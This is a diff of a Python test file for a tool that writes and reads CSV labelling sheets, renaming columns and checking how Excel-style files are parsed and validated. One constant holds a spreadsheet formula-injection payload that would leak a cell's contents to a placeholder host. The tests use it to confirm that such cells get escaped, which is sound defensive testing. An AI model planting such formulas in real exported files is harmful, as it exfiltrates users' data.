@@ -10,6 +10,7 @@ from hypothesis import strategies as st
 from label_run import drawn_answer, read_cells, write_cells
 
 from epistemic_stance.foundation.errors import InputError
+from epistemic_stance.labelling.columns import columns_of
 from epistemic_stance.labelling.sheet import Marks, Row, read_sheet, write_sheet
 from epistemic_stance.records.labels import DrawnAnswer
 from epistemic_stance.records.written import Pattern
@@ -25,6 +26,7 @@ PATTERNS = {
     name: Pattern.model_validate({"name": name, "categories": categories, **RULE})
     for name, categories in (("humming", []), ("singing", []), ("guessing", ["sums"]))
 }
+COLUMNS = {name: column for name, column in columns_of(PATTERNS).items() if name in PATTERNS}
 EVIL = '=HYPERLINK("http://example.org?leak="&A1)'
 TEXTS = ["I hum.", f"{EVIL}\nand, more; \t“so”", "'quoted'"]
 
@@ -37,12 +39,12 @@ def drawn(*responses: str) -> list[DrawnAnswer]:
 def path(tmp_path: Path) -> Path:
     """A file of three answers, nothing labelled."""
     file = tmp_path / "first.csv"
-    write_sheet(file, drawn(*TEXTS), PATTERNS, {})
+    write_sheet(file, drawn(*TEXTS), COLUMNS, {})
     return file
 
 
 def read(path: Path) -> dict[str, Row]:
-    return read_sheet(path, drawn(*TEXTS), PATTERNS)
+    return read_sheet(path, drawn(*TEXTS), COLUMNS)
 
 
 def marks(path: Path) -> dict[str, Marks]:
@@ -60,9 +62,9 @@ def mistakes(path: Path) -> list[str]:
 
 def test_what_is_written_is_csv_for_spreadsheets(path: Path) -> None:
     data = path.read_bytes()
-    assert data.startswith(b"\xef\xbb\xbfid,question,response,category,humming,singing,guessing,notes\r\n")
+    assert data.startswith(b"\xef\xbb\xbfid,question,answer,humming,singing,guessing,notes\r\n")
     cells = read_cells(path)
-    assert [row["response"] for row in cells] == [TEXTS[0], f"'{TEXTS[1]}", f"'{TEXTS[2]}"]
+    assert [row["answer"] for row in cells] == [TEXTS[0], f"'{TEXTS[1]}", f"'{TEXTS[2]}"]
     assert [row["humming"] + row["guessing"] for row in cells] == ["-"] * 3, "answers to noise cannot guess at sums"
     assert list(read(path).values()) == [Row()] * 3
 
@@ -79,21 +81,21 @@ def test_what_a_spreadsheet_would_take_for_something_else_gets_an_apostrophe(
     tmp_path: Path, text: str, guarded: bool
 ) -> None:
     file = tmp_path / "first.csv"
-    write_sheet(file, drawn(text), PATTERNS, {"a1": Row({}, text)})
+    write_sheet(file, drawn(text), COLUMNS, {"a1": Row({}, text)})
     (row,) = read_cells(file)
-    assert row["response"] == row["notes"] == (f"'{text}" if guarded else text)
-    assert read_sheet(file, drawn(text), PATTERNS)["a1"].notes == text
+    assert row["answer"] == row["notes"] == (f"'{text}" if guarded else text)
+    assert read_sheet(file, drawn(text), COLUMNS)["a1"].notes == text
 
 
 def test_a_file_saved_by_an_european_excel(path: Path) -> None:
     """Semicolons, CRLF between rows, LF inside cells, empty rows below, the apostrophe of a retyped cell gone."""
     path.write_bytes(
-        b"\xef\xbb\xbfid;question;response;category;humming;singing;guessing;notes\r\n"
-        b"a1;What is heard?;I hum.;noise;1;0;;\r\n"
+        b"\xef\xbb\xbfid;question;answer;humming;singing;guessing;notes\r\n"
+        b"a1;What is heard?;I hum.;1;0;;\r\n"
         b'a2;What is heard?;"=HYPERLINK(""http://example.org?leak=""&A1)\nand, more; \t\xe2\x80\x9cso\xe2\x80\x9d"'
-        b';noise;TRUE;FALSE;;"a note;\nof two lines"\r\n'
-        b"a3;What is heard?;''quoted';noise;?;;0;\r\n"
-        b";;;;;;;\r\n;;;;;;;\r\n"
+        b';TRUE;FALSE;;"a note;\nof two lines"\r\n'
+        b"a3;What is heard?;''quoted';?;;0;\r\n"
+        b";;;;;;\r\n;;;;;;\r\n"
     )
     rows = read(path)
     assert rows["a1"].marks == {"humming": True, "singing": False}
@@ -140,17 +142,17 @@ def test_what_a_label_may_be(path: Path, cell: str, mark: bool | None) -> None:
 )
 def test_every_text_and_label_comes_back(tmp_path: Path, texts: list[str], given_marks: Marks, delimiter: str) -> None:
     file, answers = tmp_path / "first.csv", drawn(*texts)
-    write_sheet(file, answers, PATTERNS, {one.id: Row(given_marks) for one in answers})
+    write_sheet(file, answers, COLUMNS, {one.id: Row(given_marks) for one in answers})
     write_cells(file, read_cells(file), delimiter)
-    rows = read_sheet(file, answers, PATTERNS)
+    rows = read_sheet(file, answers, COLUMNS)
     assert [row.marks for row in rows.values()] == [given_marks] * len(texts)
 
 
 def test_a_text_longer_than_a_cell_of_excel_is_cut_and_known_again(tmp_path: Path) -> None:
     file, answers = tmp_path / "first.csv", drawn("hum " * 20_000)
-    write_sheet(file, answers, PATTERNS, {})
-    assert len(read_cells(file)[0]["response"]) == 32_000
-    assert read_sheet(file, answers, PATTERNS) == {"a1": Row()}
+    write_sheet(file, answers, COLUMNS, {})
+    assert len(read_cells(file)[0]["answer"]) == 32_000
+    assert read_sheet(file, answers, COLUMNS) == {"a1": Row()}
 
 
 # --- mistakes ----------------------------------------------------------------------------------------------
@@ -160,12 +162,12 @@ def test_every_mistake_is_named_by_row_and_column(path: Path) -> None:
     """Row 3 is a2; its texts have two lines, which makes it more than one line of the file, and one row still."""
     first, second, third = read_cells(path)
     first |= {"humming": "maybe", "guessing": "1"}
-    second |= {"category": "Noise!"}
+    second |= {"question": "What?"}
     write_cells(path, [first, second, third, first, {**third, "id": "a9"}, {**third, "id": ""}])
     assert mistakes(path) == [
-        'row 2: humming: expected 1 or 0, found "maybe" (hint: empty: not labelled; ?: cannot be told)',
+        'row 2: humming: expected yes or no, found "maybe" (hint: empty: not labelled; ?: cannot be told)',
         'row 2: guessing: answers of "noise" cannot show it (hint: leave - there)',
-        'row 3: category: not the text that was drawn: "Noise!" (hint: sort rows as a whole; a text is in draw.json)',
+        'row 3: question: not the text that was drawn: "What?" (hint: sort rows as a whole; a text is in draw.json)',
         'row 5: id: "a1" stands in row 2 already (hint: keep one of the two rows)',
         'row 6: id: "a9" is no drawn answer (hint: the ids are those that the file was written with)',
         "row 7: id: missing (hint: the ids are those that the file was written with)",
@@ -174,9 +176,9 @@ def test_every_mistake_is_named_by_row_and_column(path: Path) -> None:
 
 def test_a_column_that_was_sorted_alone_is_a_mistake(path: Path) -> None:
     cells = read_cells(path)
-    texts = sorted(row["response"] for row in cells)
-    write_cells(path, [{**row, "response": text} for row, text in zip(cells, texts, strict=True)])
-    assert [line.split(":")[0:2] for line in mistakes(path)] == [["row 2", " response"], ["row 4", " response"]]
+    texts = sorted(row["answer"] for row in cells)
+    write_cells(path, [{**row, "answer": text} for row, text in zip(cells, texts, strict=True)])
+    assert [line.split(":")[0:2] for line in mistakes(path)] == [["row 2", " answer"], ["row 4", " answer"]]
 
 
 def test_a_row_that_is_gone_is_named_unless_it_may_be(path: Path) -> None:
@@ -184,17 +186,17 @@ def test_a_row_that_is_gone_is_named_unless_it_may_be(path: Path) -> None:
     assert mistakes(path) == [
         f'id: no row of "{name}" (hint: a row without labels stays, with empty cells)' for name in ("a2", "a3")
     ]
-    assert read_sheet(path, drawn(*TEXTS), PATTERNS, may_lack=["a2", "a3"]) == {"a1": Row()}
+    assert read_sheet(path, drawn(*TEXTS), COLUMNS, may_lack=["a2", "a3"]) == {"a1": Row()}
 
 
 @pytest.mark.parametrize(
     ("header", "mistake"),
     [
-        ("id,question,response,category,hums", 'row 1: unknown column "hums" (hint: known are id, question, response,'),
-        ("id,question,response,humming", 'row 1: column "category" stands 0 times, expected once'),
-        ("id,question,response,category,humming,humming", 'row 1: column "humming" stands 2 times, expected once'),
+        ("id,question,answer,hums", 'row 1: unknown column "hums" (hint: known are id, question, answer,'),
+        ("id,question,humming", 'row 1: column "answer" stands 0 times, expected once'),
+        ("id,question,answer,humming,humming", 'row 1: column "humming" stands 2 times, expected once'),
         (
-            "id|question|response|category",
+            "id|question|answer",
             'expected a comma, semicolon or tab between columns, the first line is "id|q',
         ),
         ("", "expected a comma, semicolon or tab"),
@@ -208,13 +210,13 @@ def test_a_wrong_header_is_named(path: Path, header: str, mistake: str) -> None:
 @pytest.mark.parametrize(
     ("row", "mistake"),
     [
-        ("a1,What is heard?,I hum, and sing.,noise,1,,,a note", "row 2: more cells than the header has columns"),
-        ('a1,What is heard?,"I hum.,noise,1,,,', "row 2: no CSV: unexpected end of data"),
-        ('a1,What is heard?,"I "hum".",noise,1,,,', "row 2: no CSV: ',' expected after '\"'"),
+        ("a1,What is heard?,I hum, and sing.,1,,,a note", "row 2: more cells than the header has columns"),
+        ('a1,What is heard?,"I hum.,1,,,', "row 2: no CSV: unexpected end of data"),
+        ('a1,What is heard?,"I "hum".",1,,,', "row 2: no CSV: ',' expected after '\"'"),
     ],
 )
 def test_a_broken_row_is_named(path: Path, row: str, mistake: str) -> None:
-    path.write_text(f"id,question,response,category,humming,singing,guessing,notes\n{row}", encoding="utf-8")
+    path.write_text(f"id,question,answer,humming,singing,guessing,notes\n{row}", encoding="utf-8")
     assert mistakes(path)[0].startswith(mistake)
 
 
